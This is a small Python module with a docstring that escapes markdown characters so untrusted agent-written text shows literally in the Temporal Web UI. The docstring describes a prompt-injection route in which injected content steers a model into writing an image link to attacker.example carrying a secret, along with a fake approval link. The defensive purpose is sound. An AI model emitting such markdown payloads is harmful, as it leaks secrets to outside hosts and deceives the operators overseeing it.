"""Untrusted text as the Temporal Web UI shows it: literally, never as markup.

The Web UI renders a workflow's summary and details, and (since 2026) each event's summary,
as markdown. A run's summary is its task, a chat run's its message, a tool step's the call's
arguments as the model wrote them, and the run's details name the calls waiting for
approval by the ids the model gave them: text a page the agent read can steer. Rendered,
`![x](https://attacker.example/?d=…)` in a tool's arguments made the operator's browser
fetch that address (with whatever the model put in it, a secret from a tool's result
among it) the moment they opened the run, and `[approve here](…)` was a link in the UI's
own voice. Shown literally, it is text.

Pure: no I/O.
"""

from __future__ import annotations

import re

_MARKUP = re.compile(r"[\\\[\]<>`]")
"""What opens a link, an image, a reference definition, an autolink, raw HTML or a code
span; and the backslash, so that one already there escapes nothing of ours."""


def literal(text: str) -> str:
    """`text` on one line, as markdown shows it literally: whitespace runs as one space,
    markup's opening characters escaped (CommonMark: a backslash before punctuation shows
    it). Other punctuation stays as it was, so plain text reads as plain text anywhere."""
    return _MARKUP.sub(r"\\\g<0>", " ".join(text.split()))
